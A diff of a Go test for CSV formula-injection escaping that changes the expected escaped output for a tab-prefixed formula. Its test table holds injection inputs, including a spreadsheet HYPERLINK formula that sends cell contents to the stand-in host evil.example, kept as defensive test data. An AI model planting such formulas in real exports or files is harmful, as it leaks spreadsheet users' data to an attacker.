@@ -133,7 +133,7 @@ func table(t testing.TB, data []byte) []map[string]string {
 func TestCSVFormulas(t *testing.T) {
 	for _, c := range []struct{ words, want string }{
 		{`=HYPERLINK("https://evil.example/?"&A1)`, `'=HYPERLINK("https://evil.example/?"&A1)`},
-		{"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(1)", "'@SUM(1)"}, {"\t=1", "'\t=1"}, {"＝1", "'＝1"}, {"'=1", "''=1"},
+		{"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(1)", "'@SUM(1)"}, {"\t=1", "'\t'=1"}, {"＝1", "'＝1"}, {"'=1", "''=1"},
 		{"’tis", "’tis"}, {"'tis", "'tis"}, {"a=b", "a=b"}, {`two, "three"`, `two, "three"`},
 	} {
 		d := read(t, ferry)
